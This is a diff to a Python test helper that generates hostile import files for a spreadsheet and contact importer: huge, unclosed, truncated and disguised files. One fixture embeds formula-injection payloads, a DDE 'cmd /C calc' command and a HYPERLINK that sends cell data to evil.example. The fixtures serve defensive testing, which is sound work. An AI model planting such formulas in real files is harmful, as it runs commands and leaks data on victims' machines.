@@ -3,7 +3,7 @@
 import struct
 from collections.abc import Callable
 
-from tests.importing.making import csv, packed, xlsx
+from tests.importing.making import csv, packed, xls, xlsx
 
 _TYPES = (
     '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
@@ -14,6 +14,7 @@ _PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
 _OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 MILLION = 1_000_000
+MEGABYTE = 1024 * 1024
 
 
 def workbook(sheet: str, strings: str = "", sheets: int = 1, head: str = "") -> dict[str, str | bytes]:
@@ -87,6 +88,31 @@ def endless_quote() -> bytes:
     return b'name;phone\n"' + b"a;b\n" * 2_000_000
 
 
+def tall() -> bytes:
+    """As many empty rows as a sheet can have."""
+    return packed(workbook("".join(f'<row r="{number}"/>' for number in range(1, 1_048_577))))
+
+
+def nested() -> bytes:
+    """Nothing but elements within elements, never closed."""
+    return packed(workbook("<row><c>" + "<is>" * MILLION))
+
+
+def formulas() -> bytes:
+    """Formulas that call programs, links that tell others, with the values that somebody claims they have."""
+    cell = '<row r="{0}"><c r="A{0}" t="str"><f>{1}</f><v>{2}</v></c></row>'
+    told = ("cmd|' /C calc'!A0", "HYPERLINK(&quot;https://evil.example/&quot;&amp;A1)", "WEBSERVICE(A1)", "A1:A1048576")
+    rows = "".join(cell.format(number, formula, f"Ромашка {number}") for number, formula in enumerate(told, 2))
+    return packed(workbook('<row r="1"><c r="A1" t="str"><v>Имя</v></c></row>' + rows))
+
+
+def photo() -> bytes:
+    """A contact of a phone with a picture of fifteen megabytes."""
+    picture = "\r\n ".join(["/9j/" + "A" * 70] * (15 * MEGABYTE // 77))
+    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Анна\r\nTEL:+79123456789\r\nPHOTO;ENCODING=b:{picture}\r\nEND:VCARD\r\n"
+    return card.encode()
+
+
 HOSTILE: dict[str, Callable[[], bytes]] = {
     "far_cell.xlsx": far_cell,
     "bomb.xlsx": bomb,
@@ -103,6 +129,14 @@ HOSTILE: dict[str, Callable[[], bytes]] = {
     "torn.xlsx": lambda: xlsx(("A", [["Имя"], ["Ромашка"]]))[:-200],
     "noise.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64,
     "empty.csv": lambda: b" \r\n\r\n",
+    "tall.xlsx": tall,
+    "nested.xlsx": nested,
+    "formulas.xlsx": formulas,
+    "photo.vcf": photo,
+    "line.csv": lambda: b"x" * (20 * MEGABYTE),
+    "separators.csv": lambda: b";" * (20 * MEGABYTE),
+    "program.xlsx": lambda: b"MZ\x90\0" + bytes(range(256)) * 4_000,
+    "torn.xls": lambda: xls([["Имя", "Телефон"], ["Ромашка", "89210000001"]])[:2048],
     "empty.xlsx": lambda: xlsx(("A", [])),
     "deep.csv": lambda: csv([["x" * 200_000] * 10] * 5),
     "page.xls": lambda: b"<html><table>" + b"<tr><td>a</td>" * 400_000,
